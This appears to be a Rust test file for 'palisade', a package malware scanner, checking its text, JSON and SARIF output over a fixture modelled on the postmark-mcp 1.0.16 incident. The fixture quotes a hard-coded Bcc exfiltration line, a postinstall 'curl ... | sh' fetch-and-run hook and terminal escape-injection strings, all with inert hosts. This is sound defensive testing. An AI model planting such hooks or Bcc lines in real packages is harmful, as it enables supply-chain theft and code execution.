//! Snapshot tests of the three renderers over one hand-built report, and the
//! SARIF output checked against the official SARIF 2.1.0 schema.
//!
//! The report mirrors the `postmark-mcp` 1.0.16 incident (a hard-coded `Bcc`
//! recipient added to an email tool); every address and host is inert
//! (`*.invalid`, `127.0.0.1`).

use std::path::{Path, PathBuf};
use std::process::Command;

use palisade_diagnostics::render::{Format, RenderOptions, RuleInfo, render};
use palisade_diagnostics::{
    Confidence, Facts, Finding, InputError, Location, NetworkFact, PackageReport, Report,
    ScanStats, Severity, ToolInfo, Verdict,
};

fn location(path: &str, line: u32, column: u32) -> Location {
    Location::new(path, line, column)
}

fn malicious() -> PackageReport {
    let mut findings = vec![
        Finding::new(
            "exfil/email-hardcoded-recipient",
            Severity::Critical,
            "`sendEmail` copies every message to the hard-coded `Bcc` address `x@evil.invalid`",
        )
        .with_help("do not run this version; the last clean one is `1.0.15`")
        .with_location(location("index.js", 12, 5))
        .with_snippet("    Bcc: 'x@evil.invalid',")
        .with_capability("email-recipient"),
        Finding::new(
            "scripts/install-downloads",
            Severity::High,
            "the `postinstall` script downloads `http://127.0.0.1:8080/p.sh` and runs it",
        )
        .with_help("install with `--ignore-scripts` and report the package")
        .with_location(location("package.json", 7, 20))
        .with_snippet("    \"postinstall\": \"curl -s http://127.0.0.1:8080/p.sh | sh\"")
        .with_capability("network")
        .at_install_time(true),
        Finding {
            preview: true,
            ..Finding::new(
                "obfuscation/long-hex-string",
                Severity::Medium,
                "a 4096-character hex string is decoded at load time",
            )
            .with_confidence(Confidence::Low)
            .with_location(location("lib/util.js", 3, 14))
            .with_snippet("const blob = '6d6f64756c652e6578706f727473';")
        },
        Finding::new(
            "capability/network",
            Severity::Info,
            "calls `https.request`",
        )
        .with_location(location("index.js", 40, 3))
        .with_capability("network"),
    ];
    let (verdict, score) = Verdict::decide(&mut findings);
    PackageReport {
        name: "postmark-mcp".to_owned(),
        version: "1.0.16".to_owned(),
        source: "postmark-mcp@1.0.16".to_owned(),
        integrity: Some("sha512-AAAA".to_owned()),
        verdict,
        score,
        findings,
        stats: ScanStats {
            files: 4,
            bytes: 5120,
            js_files: 2,
            js_bytes: 4096,
            unparsed_files: 0,
        },
        facts: Some(Facts {
            network: vec![NetworkFact {
                api: Some("https.request".to_owned()),
                destination: None,
                host: None,
                host_kind: None,
                collector: None,
                at: palisade_diagnostics::Fact {
                    location: location("index.js", 40, 3),
                    install_time: false,
                },
            }],
            ..Facts::default()
        }),
        cached: false,
        dependency_path: Vec::new(),
    }
}

fn clean() -> PackageReport {
    PackageReport {
        name: "left-pad".to_owned(),
        version: "1.3.0".to_owned(),
        source: "./vendor/left-pad".to_owned(),
        integrity: None,
        verdict: Verdict::Clean,
        score: 0,
        findings: Vec::new(),
        stats: ScanStats {
            files: 3,
            bytes: 2048,
            js_files: 1,
            js_bytes: 1024,
            unparsed_files: 0,
        },
        facts: None,
        cached: false,
        dependency_path: Vec::new(),
    }
}

fn report() -> Report {
    Report {
        tool: ToolInfo {
            name: "palisade".to_owned(),
            version: "0.1.0".to_owned(),
        },
        packages: vec![malicious(), clean()],
        errors: vec![InputError {
            input: "missing-pkg@9.9.9".to_owned(),
            error: "the registry has no version `9.9.9`".to_owned(),
        }],
    }
}

fn rules() -> Vec<RuleInfo> {
    vec![
        RuleInfo::new(
            "exfil/email-hardcoded-recipient",
            "An email payload names a hard-coded external recipient.",
        )
        .with_help_uri("https://example.invalid/palisade/rules/exfil/email-hardcoded-recipient")
        .with_severity(Severity::Critical),
    ]
}

#[test]
fn text() {
    let out = render(&report(), Format::Text, RenderOptions::default());
    insta::assert_snapshot!(out);
}

#[test]
fn text_has_no_colour_codes_unless_asked() {
    let mut report = report();
    // Hostile input must not reach the terminal either.
    report.packages[0].findings[0].snippet = Some("\u{1b}[2J    Bcc: 'x@evil.invalid',".to_owned());
    report.packages[0].findings[0]
        .message
        .push_str(" \u{1b}]0;owned\u{7}");
    let plain = render(&report, Format::Text, RenderOptions::default());
    assert!(!plain.contains('\u{1b}'), "{plain}");
    assert!(plain.contains("<U+001B>[2J"), "{plain}");

    let coloured = render(
        &report,
        Format::Text,
        RenderOptions {
            color: true,
            ..RenderOptions::default()
        },
    );
    assert!(
        coloured.contains("\u{1b}[1;31mMALICIOUS\u{1b}[0m"),
        "{coloured}"
    );
    // Without the escape codes the coloured text is the plain text.
    assert_eq!(strip_ansi(&coloured), plain);
}

#[test]
fn text_counts_context_when_there_is_a_lot() {
    let mut package = clean();
    package.findings = (0..12)
        .map(|i| {
            let rule = if i % 3 == 0 {
                "capability/env"
            } else {
                "capability/network"
            };
            Finding::new(rule, Severity::Info, "context").with_location(location(
                "index.js",
                i + 1,
                1,
            ))
        })
        .collect();
    let report = Report {
        packages: vec![package],
        ..Report::default()
    };
    insta::assert_snapshot!(render(&report, Format::Text, RenderOptions::default()));
}

#[test]
fn json() {
    let out = render(&report(), Format::Json, RenderOptions::default());
    assert!(out.ends_with("}\n"));
    insta::assert_snapshot!(out);
}

#[test]
fn json_facts_only_when_asked() {
    let without = render(&report(), Format::Json, RenderOptions::default());
    assert!(!without.contains("\"facts\""));
    let with = render(
        &report(),
        Format::Json,
        RenderOptions {
            facts: true,
            ..RenderOptions::default()
        },
    );
    let value: serde_json::Value = serde_json::from_str(&with).expect("valid JSON");
    assert_eq!(
        value["packages"][0]["facts"]["network"][0]["api"],
        "https.request"
    );
    // The JSON is the model: it reads back into the same report.
    let back: Report = serde_json::from_str(&with).expect("reads back");
    assert_eq!(back, report());
}

#[test]
fn sarif() {
    let rules = rules();
    let out = render(
        &report(),
        Format::Sarif,
        RenderOptions {
            rules: &rules,
            ..RenderOptions::default()
        },
    );
    insta::assert_snapshot!(out);
}

/// An awkward report: a finding with no location, one on a whole file, a
/// scoped package scanned from the working directory, odd characters in
/// paths, no rule metadata.
fn awkward() -> Report {
    let mut package = clean();
    package.name = "@scope/odd".to_owned();
    package.source = ".".to_owned();
    package.findings = vec![
        Finding::new("meta/no-repository", Severity::Low, "no `repository` field"),
        Finding::new(
            "files/binary-blob",
            Severity::Medium,
            "a binary in the package",
        )
        .with_location(Location::file("bin/a b#1.node")),
        Finding::new("js/unparsable", Severity::Info, "did not parse")
            .with_location(location("dist/ü.js", 1, 1))
            .with_snippet("\u{1b}[31m)("),
    ];
    Report {
        packages: vec![package],
        ..Report::default()
    }
}

#[test]
fn awkward_text() {
    insta::assert_snapshot!(render(&awkward(), Format::Text, RenderOptions::default()));
}

#[test]
fn awkward_sarif() {
    insta::assert_snapshot!(render(&awkward(), Format::Sarif, RenderOptions::default()));
}

#[test]
fn sarif_validates_against_schema() {
    let rules = rules();
    let options = RenderOptions {
        rules: &rules,
        ..RenderOptions::default()
    };
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let mut files = Vec::new();
    for (name, report) in [
        ("full", report()),
        ("awkward", awkward()),
        ("empty", Report::default()),
    ] {
        let path = dir.join(format!("palisade-render-{name}.sarif"));
        std::fs::write(&path, render(&report, Format::Sarif, options)).expect("write SARIF");
        files.push(path);
    }
    validate(&files);
}

fn validate(files: &[PathBuf]) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/validate-sarif.py");
    let output = match Command::new("python3").arg(&script).args(files).output() {
        Ok(output) => output,
        Err(error) if std::env::var_os("CI").is_none() => {
            eprintln!("skipped: cannot run `python3`: {error}");
            return;
        }
        Err(error) => panic!("cannot run `python3` in CI: {error}"),
    };
    if output.status.code() == Some(3) && std::env::var_os("CI").is_none() {
        eprintln!("skipped: the `jsonschema` Python package is not installed");
        return;
    }
    assert!(
        output.status.success(),
        "SARIF does not validate:\n{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}

fn strip_ansi(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            for c in chars.by_ref() {
                if c == 'm' {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}
